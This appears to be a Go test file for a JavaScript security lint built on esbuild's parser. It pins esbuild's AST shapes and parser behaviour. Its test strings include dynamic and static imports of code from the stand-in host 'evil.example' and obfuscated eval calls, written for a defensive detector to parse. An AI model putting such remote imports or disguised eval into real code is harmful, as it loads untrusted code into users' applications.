package remixletbridge

// These tests fail loudly when an esbuild version changes something the
// lint relies on: the kinds of nodes, the fields of the structs it reads,
// and the parser behaviours its rules are written against (folding, import
// records, direct eval, module-goal errors). Update esbuild only after
// reading every failure here and adjusting the lint's visitor to match.

import (
	"flag"
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	esbast "github.com/evanw/esbuild/internal/ast"
	"github.com/evanw/esbuild/internal/js_ast"
)

var update = flag.Bool("update", false, "rewrite testdata/shape.golden")

// esbuildDir finds esbuild's source in the module cache (read here, never
// copied into this repository).
func esbuildDir(t *testing.T) string {
	t.Helper()
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/evanw/esbuild").Output()
	if err != nil {
		t.Fatalf("go list: %v", err)
	}
	return strings.TrimSpace(string(out))
}

// declaredKinds lists the types that declare the marker method (isExpr,
// isStmt, isBinding) in esbuild's js_ast package.
func declaredKinds(t *testing.T, method string) []string {
	t.Helper()
	path := filepath.Join(esbuildDir(t), "internal", "js_ast", "js_ast.go")
	f, err := parser.ParseFile(token.NewFileSet(), path, nil, parser.SkipObjectResolution)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, d := range f.Decls {
		fn, ok := d.(*ast.FuncDecl)
		if !ok || fn.Recv == nil || fn.Name.Name != method {
			continue
		}
		star, ok := fn.Recv.List[0].Type.(*ast.StarExpr)
		if !ok {
			continue
		}
		names = append(names, star.X.(*ast.Ident).Name)
	}
	slices.Sort(names)
	return names
}

func typeNames[T any](nodes []T) []string {
	var names []string
	for _, n := range nodes {
		names = append(names, reflect.TypeOf(n).Elem().Name())
	}
	slices.Sort(names)
	return names
}

func TestEveryNodeKindIsListed(t *testing.T) {
	for _, c := range []struct {
		method string
		listed []string
	}{
		{"isExpr", typeNames(ExprKinds())},
		{"isStmt", typeNames(StmtKinds())},
		{"isBinding", typeNames(BindingKinds())},
	} {
		declared := declaredKinds(t, c.method)
		if len(declared) < 4 {
			t.Fatalf("found only %v declaring %s: has js_ast.go moved?", declared, c.method)
		}
		if !slices.Equal(declared, c.listed) {
			t.Errorf("esbuild's node kinds (%s) changed:\n declared: %v\n   listed: %v\nadd the new kinds to ast.go and to the lint's visitor", c.method, declared, c.listed)
		}
	}
}

// TestShapes compares the fields of every struct the lint reads with
// testdata/shape.golden.
func TestShapes(t *testing.T) {
	var types []reflect.Type
	for _, n := range ExprKinds() {
		types = append(types, reflect.TypeOf(n).Elem())
	}
	for _, n := range StmtKinds() {
		types = append(types, reflect.TypeOf(n).Elem())
	}
	for _, n := range BindingKinds() {
		types = append(types, reflect.TypeOf(n).Elem())
	}
	for _, v := range []any{
		js_ast.AST{}, js_ast.Part{}, js_ast.Expr{}, js_ast.Stmt{}, js_ast.Binding{},
		js_ast.Arg{}, js_ast.ArrayBinding{}, js_ast.Case{}, js_ast.Catch{}, js_ast.Class{},
		js_ast.ClassStaticBlock{}, js_ast.ClauseItem{}, js_ast.Decl{}, js_ast.Decorator{},
		js_ast.EnumValue{}, js_ast.Finally{}, js_ast.Fn{}, js_ast.FnBody{}, js_ast.Property{},
		js_ast.PropertyBinding{}, js_ast.TemplatePart{},
		esbast.Ref{}, esbast.LocRef{}, esbast.Symbol{}, esbast.ImportRecord{},
	} {
		types = append(types, reflect.TypeOf(v))
	}
	var b strings.Builder
	for _, typ := range types {
		fmt.Fprintf(&b, "%s\n", typ.Name())
		for i := range typ.NumField() {
			f := typ.Field(i)
			fmt.Fprintf(&b, "\t%s %s\n", f.Name, f.Type)
		}
	}
	got := b.String()
	const golden = "testdata/shape.golden"
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		gl, wl := strings.Split(got, "\n"), strings.Split(string(want), "\n")
		for i := range max(len(gl), len(wl)) {
			g, w := "", ""
			if i < len(gl) {
				g = gl[i]
			}
			if i < len(wl) {
				w = wl[i]
			}
			if g != w {
				t.Errorf("AST shape changed at line %d of %s:\n want %q\n  got %q\nread the new esbuild's js_ast, adjust the lint's visitor, then run go test -run TestShapes -update", i+1, golden, w, g)
				break
			}
		}
	}
}

// firstExpr returns the value of the first expression statement.
func firstExpr(t *testing.T, src string) (*Result, Expr) {
	t.Helper()
	r := ParseModule(src)
	if !r.OK || r.Panic != nil {
		t.Fatalf("%q does not parse: %v", src, r.Messages)
	}
	for _, p := range r.AST.Parts {
		for _, s := range p.Stmts {
			if e, ok := s.Data.(*SExpr); ok {
				return r, e.Value
			}
		}
	}
	t.Fatalf("%q: no expression statement", src)
	return nil, Expr{}
}

// TestParserBehaviours pins what the lint's rules assume about the parser.
func TestParserBehaviours(t *testing.T) {
	t.Run("string addition is folded", func(t *testing.T) {
		_, e := firstExpr(t, `f('ev' + 'al')`)
		e = e.Data.(*ECall).Args[0]
		s, ok := e.Data.(*EString)
		if !ok || UTF16ToString(s.Value) != "eval" {
			t.Fatalf("got %T", e.Data)
		}
	})
	t.Run("const bindings are not inlined", func(t *testing.T) {
		_, e := firstExpr(t, `const u = "x"; u`)
		if _, ok := e.Data.(*EIdentifier); !ok {
			t.Fatalf("got %T: the lint folds consts itself and expects identifiers", e.Data)
		}
	})
	t.Run("literal import() becomes an import record", func(t *testing.T) {
		r, e := firstExpr(t, `import("https://evil.example/x.js")`)
		is, ok := e.Data.(*EImportString)
		if !ok {
			t.Fatalf("got %T", e.Data)
		}
		rec := r.AST.ImportRecords[is.ImportRecordIndex]
		if rec.Kind != ImportDynamic || rec.Path.Text != "https://evil.example/x.js" {
			t.Fatalf("record %+v", rec)
		}
	})
	t.Run("non-literal import() stays a call", func(t *testing.T) {
		_, e := firstExpr(t, `import(x)`)
		if _, ok := e.Data.(*EImportCall); !ok {
			t.Fatalf("got %T", e.Data)
		}
	})
	t.Run("static imports are statements with records", func(t *testing.T) {
		r := ParseModule(`import a from "https://evil.example/a.js"; export * from "b"; export {c} from "c"; a`)
		var kinds []string
		for _, p := range r.AST.Parts {
			for _, s := range p.Stmts {
				kinds = append(kinds, reflect.TypeOf(s.Data).Elem().Name())
			}
		}
		for _, want := range []string{"SImport", "SExportStar", "SExportFrom"} {
			if !slices.Contains(kinds, want) {
				t.Errorf("no %s among %v", want, kinds)
			}
		}
		if len(r.AST.ImportRecords) != 3 {
			t.Errorf("want 3 import records, got %d", len(r.AST.ImportRecords))
		}
		for _, rec := range r.AST.ImportRecords {
			if rec.Kind != ImportStmt {
				t.Errorf("record %q has kind %v", rec.Path.Text, rec.Kind)
			}
		}
	})
	t.Run("a direct eval is marked", func(t *testing.T) {
		r, e := firstExpr(t, `\u0065val(x)`)
		c, ok := e.Data.(*ECall)
		if !ok || c.Kind != DirectEval {
			t.Fatalf("got %T %+v", e.Data, e.Data)
		}
		id := c.Target.Data.(*EIdentifier)
		if s := r.Symbol(id.Ref); s == nil || s.OriginalName != "eval" || s.Kind != SymbolUnbound {
			t.Fatalf("symbol %+v", s)
		}
	})
	t.Run("a local binding is not unbound", func(t *testing.T) {
		r, e := firstExpr(t, `let document = 1; document`)
		id := e.Data.(*EIdentifier)
		if s := r.Symbol(id.Ref); s == nil || s.Kind == SymbolUnbound {
			t.Fatalf("symbol %+v", s)
		}
	})
	t.Run("templates keep their parts", func(t *testing.T) {
		_, e := firstExpr(t, "`a${x}b`")
		tpl, ok := e.Data.(*ETemplate)
		if !ok || len(tpl.Parts) != 1 || UTF16ToString(tpl.HeadCooked) != "a" || UTF16ToString(tpl.Parts[0].TailCooked) != "b" {
			t.Fatalf("got %T %+v", e.Data, e.Data)
		}
	})
	for _, c := range []struct{ src, text string }{
		{"<!-- x\n", "Legacy HTML single-line comments are not allowed in ECMAScript modules"},
		{"with (a) {}", "With statements cannot be used in an ECMAScript module"},
		{"var eval = 1", `Declarations with the name "eval" cannot be used in an ECMAScript module`},
		{"x = 010", "Legacy octal literals cannot be used in an ECMAScript module"},
	} {
		t.Run("module goal: "+c.src, func(t *testing.T) {
			r := ParseModule(c.src)
			if !r.OK {
				t.Fatalf("esbuild now stops on %q; the lint refuses either way but check the messages", c.src)
			}
			var errs []string
			for _, m := range r.Messages {
				if m.Error {
					errs = append(errs, m.Text)
				}
			}
			if !slices.Contains(errs, c.text) {
				t.Fatalf("want error %q with ok == true, got %q", c.text, errs)
			}
		})
	}
	t.Run("message offsets count esbuild's line breaks", func(t *testing.T) {
		src := "a\r\nb\u2028c\rd e"
		r := ParseModule(src)
		if len(r.Messages) == 0 || r.Messages[0].Offset != strings.Index(src, "e") {
			t.Fatalf("messages %+v", r.Messages)
		}
	})
}
